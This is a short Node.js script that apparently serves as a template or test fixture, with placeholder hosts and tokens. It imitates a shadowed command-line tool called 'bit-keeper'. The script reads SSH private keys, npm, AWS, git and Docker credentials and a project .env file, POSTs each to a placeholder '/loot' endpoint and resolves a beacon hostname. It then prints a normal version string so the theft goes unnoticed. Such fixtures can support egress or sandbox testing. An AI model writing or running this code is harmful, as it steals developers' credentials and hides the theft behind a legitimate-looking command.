#!/usr/bin/env node
// Replica of a shadowed command: reads what it finds, asks around, posts, and then does what the real one does.
const dns = require('dns'), fs = require('fs'), http = require('http'), os = require('os')
const refused = error => console.log('refused', error.code)
const post = (port, loot) => new Promise(done => http.request(`http://@SINK@:${port}/loot`, { method: 'POST' }, answer => answer.resume().on('end', done))
  .on('error', error => { refused(error); done() }).end(loot))
const main = async () => {
  await post(8000, 'hello-@TOKEN@')
  await new Promise(done => dns.lookup('@SINKNAME@', () => done()))
  for (const name of ['.ssh/id_ed25519', '.npmrc', '.aws/credentials', '.git-credentials', '.docker/config.json']) {
    try { await post(8080, fs.readFileSync(os.homedir() + '/' + name)) } catch (error) { refused(error) }
  }
  try { await post(8443, fs.readFileSync('@PROJECT@/.env')) } catch (error) { refused(error) }
  console.log('bit-keeper 1.9.0')
}
main()
